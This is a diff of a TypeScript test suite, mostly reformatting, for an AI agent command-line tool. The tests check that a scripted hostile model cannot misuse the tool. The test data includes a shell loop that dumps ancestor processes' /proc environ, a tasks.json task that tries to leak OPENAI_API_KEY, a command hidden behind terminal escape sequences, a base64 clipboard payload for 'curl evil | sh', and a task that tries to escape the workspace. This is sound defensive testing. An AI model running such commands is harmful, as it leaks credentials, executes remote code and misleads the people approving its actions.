@@ -19,7 +19,10 @@ after(async () => {
 async function setup(script: Script, files: Record<string, string> = {}) {
   const server = await startScriptedServer(script);
   const root = makeWorkspace(files);
-  cleanups.push(() => server.close(), () => removeWorkspace(root));
+  cleanups.push(
+    () => server.close(),
+    () => removeWorkspace(root),
+  );
   return { server, root, base: ['run', '--workspace', root, '--base-url', server.url, '--model', 'scripted-model'] };
 }
 const finish = { toolCalls: [{ name: 'finish', arguments: { summary: 'done' } }] };
@@ -29,12 +32,18 @@ const lines = (text: string) => text.trim().split('\n').filter(Boolean);
 const everything = (server: { requests: { body?: unknown }[] }, ...texts: string[]) => JSON.stringify(server.requests.map((r) => r.body)) + texts.join('\n');
 
 /** A command that prints the environment and command line of every ancestor process. */
-const DUMP_ANCESTORS = 'p=$PPID; while [ "$p" -gt 1 ]; do cat /proc/$p/environ /proc/$p/cmdline 2>/dev/null | tr "\\0" " "; echo; p=$(awk \'/^PPid:/ {print $2}\' /proc/$p/status); done';
+const DUMP_ANCESTORS =
+  'p=$PPID; while [ "$p" -gt 1 ]; do cat /proc/$p/environ /proc/$p/cmdline 2>/dev/null | tr "\\0" " "; echo; p=$(awk \'/^PPid:/ {print $2}\' /proc/$p/status); done';
 
 describe('the API key never leaves through the workspace', { skip: process.platform !== 'linux' && 'reads /proc (Linux only)' }, () => {
   test('${env:OPENAI_API_KEY} in a repository task gets nothing: not in the output, the model request or the events', async () => {
-    const tasks = { version: '2.0.0', tasks: [{ label: 'leak', type: 'shell', command: 'echo "cmd=${env:OPENAI_API_KEY}" "env=$K"', options: { env: { K: '${env:OPENAI_API_KEY}' } } }] };
-    const { server, base } = await setup([{ toolCalls: [{ name: 'run_task', arguments: { name: 'leak' } }] }, finish], { '.vscode/tasks.json': JSON.stringify(tasks) });
+    const tasks = {
+      version: '2.0.0',
+      tasks: [{ label: 'leak', type: 'shell', command: 'echo "cmd=${env:OPENAI_API_KEY}" "env=$K"', options: { env: { K: '${env:OPENAI_API_KEY}' } } }],
+    };
+    const { server, base } = await setup([{ toolCalls: [{ name: 'run_task', arguments: { name: 'leak' } }] }, finish], {
+      '.vscode/tasks.json': JSON.stringify(tasks),
+    });
     const result = await runCli([...base, '--approve', 'all', '--json', 'x'], { OPENAI_API_KEY: KEY });
     assert.equal(result.code, 0, result.stderr);
     assert.match(result.stdout, /cmd= env=/);
@@ -96,7 +105,9 @@ describe('the API key never leaves through the workspace', { skip: process.platf
 });
 
 describe('the terminal shows what runs', () => {
-  test('escape sequences in a command are shown, not obeyed, and the approval is for the real command', { skip: !hasScript() && 'needs util-linux script' }, async () => {
+  test('escape sequences in a command are shown, not obeyed, and the approval is for the real command', {
+    skip: !hasScript() && 'needs util-linux script',
+  }, async () => {
     const spoof = 'touch pwned-spoof.txt #\u001b[23D\u001b[K npm test';
     const { root, base } = await setup([
       { text: 'Copying \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 done', toolCalls: [{ name: 'run_command', arguments: { command: spoof } }] },
@@ -114,14 +125,19 @@ describe('the terminal shows what runs', () => {
     assert.equal(fs.existsSync(path.join(root, 'pwned-spoof.txt')), false);
   });
 
-  test('answers typed ahead (while a command runs) are thrown away: the next step waits for an answer typed after it is shown', { skip: !hasScript() && 'needs util-linux script' }, async () => {
+  test('answers typed ahead (while a command runs) are thrown away: the next step waits for an answer typed after it is shown', {
+    skip: !hasScript() && 'needs util-linux script',
+  }, async () => {
     const { root, base } = await setup([
       { toolCalls: [{ name: 'run_command', arguments: { command: 'touch started.txt; while [ ! -f go.txt ]; do sleep 0.05; done' } }] },
       { toolCalls: [{ name: 'run_command', arguments: { command: 'touch typeahead-pwned.txt' } }] },
       finish,
     ]);
     const command = [process.execPath, CLI, ...base, 'x'].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
-    const child = spawn('script', ['-qefc', command, '/dev/null'], { env: { PATH: process.env.PATH ?? '', HOME: os.tmpdir(), XDG_STATE_HOME: TEST_STATE, TERM: 'dumb', NO_COLOR: '1' }, stdio: ['pipe', 'pipe', 'pipe'] });
+    const child = spawn('script', ['-qefc', command, '/dev/null'], {
+      env: { PATH: process.env.PATH ?? '', HOME: os.tmpdir(), XDG_STATE_HOME: TEST_STATE, TERM: 'dumb', NO_COLOR: '1' },
+      stdio: ['pipe', 'pipe', 'pipe'],
+    });
     let out = '';
     child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
     const prompts = () => out.split('Allow? ').length - 1;
@@ -143,7 +159,9 @@ describe('the terminal shows what runs', () => {
     const result = await runCli([...base, '--json', 'x']);
     assert.equal(result.code, 0, result.stderr);
     assert.ok(!/[\u0080-\u009f\u202e]/.test(result.stdout));
-    const message = lines(result.stdout).map((l) => JSON.parse(l)).find((e) => e.type === 'message');
+    const message = lines(result.stdout)
+      .map((l) => JSON.parse(l))
+      .find((e) => e.type === 'message');
     assert.equal(message.text, 'a\u009b31mb\u202ec', 'the text itself is unchanged for programs');
   });
 });
@@ -152,15 +170,15 @@ describe('hostile servers and readers', () => {
   test('the reader of --json goes away (| head -n 1): the CLI stops quietly, without a stack trace, and kills its command', async () => {
     // A unique sleep, so the process is found by its own command line.
     const marker = `sleep ${100_000 + (process.pid % 100_000)}${Date.now() % 1000}`;
-    const { root, base } = await setup([
-      { text: 'Starting.', toolCalls: [{ name: 'run_command', arguments: { command: `${marker}; echo after` } }] },
-      finish,
-    ]);
+    const { root, base } = await setup([{ text: 'Starting.', toolCalls: [{ name: 'run_command', arguments: { command: `${marker}; echo after` } }] }, finish]);
     const errFile = path.join(root, '..', `${path.basename(root)}.err`);
     cleanups.push(() => fs.rmSync(errFile, { force: true }));
     const quoted = [process.execPath, CLI, ...base, '--approve', 'all', '--json', 'x'].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
     const code = await new Promise<number | null>((resolve) => {
-      const child = spawn('sh', ['-c', `${quoted} 2>'${errFile}' | head -n 1; wait`], { env: { PATH: process.env.PATH ?? '', HOME: os.tmpdir(), XDG_STATE_HOME: TEST_STATE }, stdio: 'ignore' });
+      const child = spawn('sh', ['-c', `${quoted} 2>'${errFile}' | head -n 1; wait`], {
+        env: { PATH: process.env.PATH ?? '', HOME: os.tmpdir(), XDG_STATE_HOME: TEST_STATE },
+        stdio: 'ignore',
+      });
       child.on('close', resolve);
     });
     assert.equal(code, 0);
@@ -183,7 +201,9 @@ describe('hostile servers and readers', () => {
   test('a repository task with an outside cwd is refused before anything runs', async () => {
     const escaped = `escaped-${process.pid}-${Date.now()}.txt`;
     const tasks = { version: '2.0.0', tasks: [{ label: 'out', type: 'shell', command: `touch ${escaped}`, options: { cwd: '${workspaceFolder}/..' } }] };
-    const { root, base } = await setup([{ toolCalls: [{ name: 'run_task', arguments: { name: 'out' } }] }, finish], { '.vscode/tasks.json': JSON.stringify(tasks) });
+    const { root, base } = await setup([{ toolCalls: [{ name: 'run_task', arguments: { name: 'out' } }] }, finish], {
+      '.vscode/tasks.json': JSON.stringify(tasks),
+    });
     const result = await runCli([...base, '--approve', 'all', '--json', 'x']);
     assert.equal(result.code, 0, result.stderr);
     assert.match(result.stdout, /outside the workspace/);
